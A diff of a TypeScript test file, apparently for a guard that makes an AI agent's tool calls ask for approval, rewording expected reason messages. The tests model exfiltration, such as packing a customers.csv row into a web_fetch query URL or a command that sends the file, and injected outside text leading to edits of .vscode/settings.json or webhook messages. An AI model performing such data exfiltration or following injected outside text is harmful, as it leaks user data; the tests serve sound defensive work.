@@ -35,7 +35,7 @@ test.each<{ what: string; get: [string, object]; send: [string, object]; why: Re
     what: "in a query",
     get: ["read", { path: "customers.csv" }],
     send: ["web_fetch", { url: `https://docs.example/search?q=${encodeURIComponent(ROW)}` }],
-    why: /It sends \d+ characters of what “Read customers\.csv.*” returned off this machine: "/,
+    why: /Sends \d+ characters of what “Read customers\.csv.*” returned off this machine: "/,
   },
   {
     what: "with other separators",
@@ -216,7 +216,7 @@ test.each([
 ])("a file that a command sends %s asks, also one that nobody has read", async (_what, command) => {
   const world = await open();
   failed(await world.model("exec", { command }));
-  expect(world.asked[0]?.reasons.join(" ")).toContain("It may send the contents of customers.csv.");
+  expect(world.asked[0]?.reasons.join(" ")).toContain("May send the contents of customers.csv.");
 });
 
 test("a secret is refused or asked about at the first step", async () => {
@@ -259,7 +259,7 @@ test("text from outside makes what follows in its turn ask once for each place, 
   failed(await world.model(...note));
   expect(world.asked.map(({ reasons, everyTime }) => ({ reasons, everyTime }))).toEqual([
     {
-      reasons: [`It follows text from outside: ${page.origin}/a → ${page.origin}/b → add of notes.`],
+      reasons: [`Follows text from outside: ${page.origin}/a → ${page.origin}/b → add of notes.`],
       everyTime: true,
     },
   ]);
@@ -281,7 +281,7 @@ test("text from outside makes a change of a protected file ask, though a rule na
   const { decision, reasons } = await world.decides(...change);
   expect([decision, reasons.join(" ")]).toEqual([
     "ask",
-    expect.stringContaining("It follows text from outside: Call get_issue of tracker → .vscode/settings.json."),
+    expect.stringContaining("Follows text from outside: Call get_issue of tracker → .vscode/settings.json."),
   ]);
 });
 
@@ -358,7 +358,7 @@ test("more of a page's stored text is text from outside in its turn, and not pri
   const { decision, reasons } = await world.decides(...told, turn);
   expect([decision, reasons.join(" ")]).toEqual([
     "ask",
-    expect.stringContaining(`It follows text from outside: ${page.origin}/a → message to webhook:team.`),
+    expect.stringContaining(`Follows text from outside: ${page.origin}/a → message to webhook:team.`),
   ]);
 });
 
